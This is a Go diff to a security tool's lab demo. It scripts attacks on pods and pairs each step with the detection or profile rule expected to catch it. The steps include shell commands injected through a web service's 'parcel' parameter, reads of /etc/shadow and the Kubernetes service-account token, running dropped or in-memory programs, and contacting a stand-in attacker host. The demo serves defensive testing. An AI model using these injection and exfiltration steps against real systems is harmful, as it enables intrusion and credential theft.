@@ -11,25 +11,33 @@ import (
 	"net/http"
 	"net/netip"
 	"net/url"
+	"strings"
+	"time"
 
 	"github.com/holdfast-project/holdfast/tests/lab"
 )
 
-// The attacker's machine, as the pod sees it, and the cloud's metadata service. Both are played by the demo, on addresses
-// of the lab's own loopback device.
+// The machines that pods see: the attacker's, the cloud's metadata service, a name server and a bank. All are played by
+// the demo, on addresses of the lab's own loopback device.
 const (
 	attackerAddress = "203.0.113.66"
+	attackerName    = "drop.example.net"
 	metadataAddress = "169.254.169.254"
+	resolverAddress = "203.0.113.53"
+	bankAddress     = "203.0.113.20"
+	bankName        = "bank.example.com"
 )
 
-// step is one step of the attack: what the attacker makes the web service's shell do, and the rule that tells of it.
+// step is one step of an attack: what the attacker does, and how; the rule that tells of it, or none for a step that is
+// ordinary.
 type step struct {
 	what, command, rule string
 }
 
 const secrets = "/var/run/secrets/kubernetes.io/serviceaccount"
 
-func attack() []step {
+// detected are the steps of the attack on the web service that is watched and no more: commands for its shell.
+func detected() []step {
 	return []step{
 		{"find out where one is", "id; hostname", ""},
 		{"read the password hashes", "cat /etc/shadow", "Sensitive file read"},
@@ -45,9 +53,27 @@ func attack() []step {
 	}
 }
 
+// blocked are the steps of the attack on the web service that is kept to its profile: one command for its shell, and
+// templates for its invoices.
+func blocked() []step {
+	return []step{
+		{"give the shell another command", shellStep + "cat /etc/shadow", "Arguments not in profile"},
+		{"drop a program", "save /tmp/.x", "File access not in profile"},
+		{"run one that was uploaded", "run " + uploads + "/x hello", "Executable not in profile"},
+		{"have the dynamic linker run it", "run " + linker + " " + uploads + "/x hello", "Executable not in profile"},
+		{"run one from memory", "memory", "Fileless executable"},
+		{"send what was found to an address", "contact " + attackerAddress + ":80", "Contact not in profile"},
+		{"send it to a name", "contact " + attackerName + ":80", "Domain not in profile"},
+		{"read the pod's Kubernetes token", "read " + secrets + "/token", "Protected file not in profile"},
+	}
+}
+
+// shellStep begins the commands that go to the shell.
+const shellStep = "sh: "
+
 // serveOutside plays the machines that the pod talks to, until the lab is closed.
 func serveOutside(ctx context.Context, l *lab.Lab, tool string) error {
-	for _, address := range []string{attackerAddress, metadataAddress} {
+	for _, address := range []string{attackerAddress, metadataAddress, resolverAddress, bankAddress} {
 		if err := l.AddAddress(netip.MustParseAddr(address)); err != nil {
 			return err
 		}
@@ -70,35 +96,70 @@ func serveOutside(ctx context.Context, l *lab.Lab, tool string) error {
 		return err
 	}
 	context.AfterFunc(ctx, func() { _ = shells.Close() })
-	go typeInto(shells)
+	go each(shells, "uname -a\nexit\n")
+	bank, err := l.Listen(ctx, "tcp", bankAddress+":443")
+	if err != nil {
+		return err
+	}
+	context.AfterFunc(ctx, func() { _ = bank.Close() })
+	go each(bank, "paid\n")
+	questions, err := l.ListenPacket(ctx, "udp", resolverAddress+":53")
+	if err != nil {
+		return err
+	}
+	context.AfterFunc(ctx, func() { _ = questions.Close() })
+	go answerNames(questions, map[string]netip.Addr{
+		bankName: netip.MustParseAddr(bankAddress), attackerName: netip.MustParseAddr(attackerAddress),
+	})
 	return nil
 }
 
-// typeInto types two commands into each shell that comes, and leaves.
-func typeInto(listener net.Listener) {
+// each says something to whoever comes, hears what they say until they end, and leaves. To a shell, it is commands.
+func each(listener net.Listener, words string) {
 	for {
 		conn, err := listener.Accept()
 		if err != nil {
 			return
 		}
-		_, err = io.WriteString(conn, "uname -a\nexit\n")
-		if err == nil {
-			_, _ = io.Copy(io.Discard, conn)
-		}
-		_ = conn.Close()
+		go func() {
+			_ = conn.SetDeadline(time.Now().Add(10 * time.Second))
+			if _, err := io.WriteString(conn, words); err == nil {
+				if tcp, ok := conn.(*net.TCPConn); ok {
+					_ = tcp.CloseWrite()
+				}
+				_, _ = io.Copy(io.Discard, conn)
+			}
+			_ = conn.Close()
+		}()
 	}
 }
 
+// try takes one step against a web service and gives what it answered.
+func try(ctx context.Context, client *http.Client, shop string, s step) (string, error) {
+	if command, ok := strings.CutPrefix(s.command, shellStep); ok {
+		return inject(ctx, client, shop, command)
+	}
+	return post(ctx, client, "http://"+shop+"/invoice", s.command)
+}
+
 // inject sends one command through the mistake in the web service.
-func inject(ctx context.Context, client *http.Client, shop, command string) error {
-	request, err := http.NewRequestWithContext(ctx, http.MethodGet, "http://"+shop+"/track?parcel="+url.QueryEscape("1; "+command), nil)
+func inject(ctx context.Context, client *http.Client, shop, command string) (string, error) {
+	return ask(ctx, client, http.MethodGet, "http://"+shop+"/track?parcel="+url.QueryEscape("1; "+command), "")
+}
+
+func post(ctx context.Context, client *http.Client, to, body string) (string, error) {
+	return ask(ctx, client, http.MethodPost, to, body)
+}
+
+func ask(ctx context.Context, client *http.Client, method, to, body string) (string, error) {
+	request, err := http.NewRequestWithContext(ctx, method, to, strings.NewReader(body))
 	if err != nil {
-		return err
+		return "", err
 	}
 	response, err := client.Do(request)
 	if err != nil {
-		return fmt.Errorf("attack: %w", err)
+		return "", fmt.Errorf("ask the web service: %w", err)
 	}
-	_, err = io.Copy(io.Discard, response.Body)
-	return errors.Join(err, response.Body.Close())
+	text, err := io.ReadAll(response.Body)
+	return string(text), errors.Join(err, response.Body.Close())
 }
